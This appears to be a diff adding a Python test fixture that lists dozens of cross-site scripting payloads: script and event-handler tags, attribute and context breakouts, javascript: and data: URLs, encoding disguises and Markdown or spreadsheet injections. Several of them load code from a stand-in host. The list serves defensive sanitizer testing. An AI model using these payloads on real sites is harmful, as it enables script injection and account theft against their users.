@@ -1,0 +1,117 @@
+"""What somebody might write into a field to have a page run it. Each opens a dialog, asks another host for something, or leads
+to an address that runs: the tests see any of these."""
+
+RUN = "alert(1)"
+HOST = "evil.example"
+
+ELEMENTS = [
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f"<script src=//{HOST}/a.js></script>",
+    f"<script/x>{RUN}</script>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<script type=module>import 'https://{HOST}/a.js';{RUN}</script>",
+    f"<script>{RUN}<!--",
+    f"<img src=x onerror={RUN}>",
+    f"<img src=x onerror=\"{RUN}\">",
+    f"<img/src='x'/onerror='{RUN}'/>",
+    f"<IMG SRC=x oNeRrOr={RUN}>",
+    f"<img src=//{HOST}/a.png>",
+    f"<img src=x:x onerror=&#97;lert(1) alt=alert>",
+    f"<svg onload={RUN}>",
+    f"<svg/onload={RUN}//",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><a xlink:href=javascript:{RUN}><text y=20>press</text></a></svg>",
+    f"<svg><use href=data:image/svg+xml,alert#x></svg>",
+    f"<math><mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></mtext></math>",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}><summary>x</summary></details>",
+    f"<video src=x onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}></audio>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<textarea autofocus onfocus={RUN}></textarea>",
+    f"<button formaction=javascript:{RUN}>press</button>",
+    f"<form action=javascript:{RUN}><button>press</button></form>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<p style=animation-name:x onanimationstart={RUN}>x</p>",
+    f"<iframe src=javascript:{RUN}></iframe>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<object data=javascript:{RUN}></object>",
+    f"<embed src=//{HOST}/a>",
+    f"<base href=//{HOST}/>",
+    f"<link rel=stylesheet href=//{HOST}/a.css>",
+    f"<style>@import '//{HOST}/a.css';</style>",
+    f"<style>*{{background:url(//{HOST}/a.png)}}</style>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
+    f"<template><script>{RUN}</script></template>",
+    f"<xss id=x tabindex=1 onfocus={RUN}>x</xss>",
+    f"<a href=javascript:{RUN}>press</a>",
+]
+
+# Out of an attribute, an element, a comment, a script's text or a style's.
+ENDINGS = [
+    f"\"><script>{RUN}</script>",
+    f"'><script>{RUN}</script>",
+    f"\" onmouseover={RUN} x=\"",
+    f"' onmouseover={RUN} x='",
+    f"\"autofocus onfocus={RUN} tabindex=1 x=\"",
+    f"` onmouseover={RUN} x=`",
+    f"</title><script>{RUN}</script>",
+    f"</textarea></style></noscript></script><script>{RUN}</script>",
+    f"--><script>{RUN}</script>",
+    f"]]><script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"\"}};{RUN};//",
+    f"'-{RUN}-'",
+    f"\\\"-{RUN}}}//",
+    f"${{{RUN}}}",
+    f"}}*{{background:url(//{HOST}/a.png)}}",
+    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
+    f"\u2028{RUN}//</script><script>{RUN}</script>",
+    f"\"\u0301 onmouseover={RUN} x=\"\u0301",
+    f"<\u0301script>{RUN}</script>",
+    f"\r\n\r\n<script>{RUN}</script>",
+    f"\n---\n<script>{RUN}</script>",
+]
+
+ADDRESSES = [
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f" javascript:{RUN}",
+    f"java\tscript:{RUN}",
+    f"java\nscript:{RUN}",
+    f"\x01javascript:{RUN}",
+    f"&#106;avascript:{RUN}",
+    f"javascript&colon;{RUN}",
+    f"javascript://mallow.example/%0a{RUN}",
+    f"vbscript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    f"data:image/svg+xml,<svg onload={RUN}>",
+    f"//{HOST}/",
+    f"https://{HOST}/\"onmouseover=\"{RUN}",
+    f"https://{HOST}/'><script>{RUN}</script>",
+    f"https:javascript:{RUN}",
+    f"blob:https://{HOST}/alert",
+]
+
+# Escapes that are undone once too often, and the marks of templates, Markdown and spreadsheets.
+DISGUISES = [
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
+    f"%3Cscript%3E{RUN}%3C/script%3E",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
+    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
+    f"{{{{{{title}}}}}}{{{{>layout}}}}<script>{RUN}</script>",
+    f"[press](javascript:{RUN})",
+    f"![x](x\"onerror=\"{RUN})",
+    f"[x]: javascript:{RUN}\n[x]",
+    f"=HYPERLINK(\"https://{HOST}/\",\"{RUN}\")",
+    f"\u202e<script>{RUN}</script>\u202c",
+]
+
+PAYLOADS = ELEMENTS + ENDINGS + ADDRESSES + DISGUISES
+MARKS = (b"alert", b"evil")
